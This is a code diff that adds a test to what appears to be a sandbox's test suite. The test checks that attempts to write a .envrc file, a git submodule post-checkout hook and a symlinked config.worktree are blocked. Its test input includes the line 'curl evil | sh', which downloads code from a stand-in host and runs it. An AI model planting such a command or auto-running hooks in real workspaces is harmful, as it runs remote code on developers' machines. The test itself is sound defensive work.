@@ -203,3 +203,15 @@ def test_cannot_rebuild_namespaces_inside(world):
 def test_host_sockets_under_run_are_hidden(world):
     r = world.run("ls -A /run | wc -l")
     assert out(r).strip() == "0"
+
+
+def test_direnv_and_submodule_hooks_are_protected(world):
+    hooks = world.ws / ".git" / "modules" / "lib" / "hooks"
+    hooks.mkdir(parents=True)
+    r = world.run("echo 'curl evil | sh' > .envrc; echo x > .git/modules/lib/hooks/post-checkout;"
+                  " ln -s /bin/sh .git/config.worktree; echo end")
+    assert "end" in out(r)
+    assert not (world.ws / ".envrc").exists()
+    assert not (hooks / "post-checkout").exists()
+    assert not os.path.lexists(world.ws / ".git" / "config.worktree")
+    assert {".envrc", "config.worktree"} <= {os.path.basename(v.split(" ")[3]) for v in r.violations}
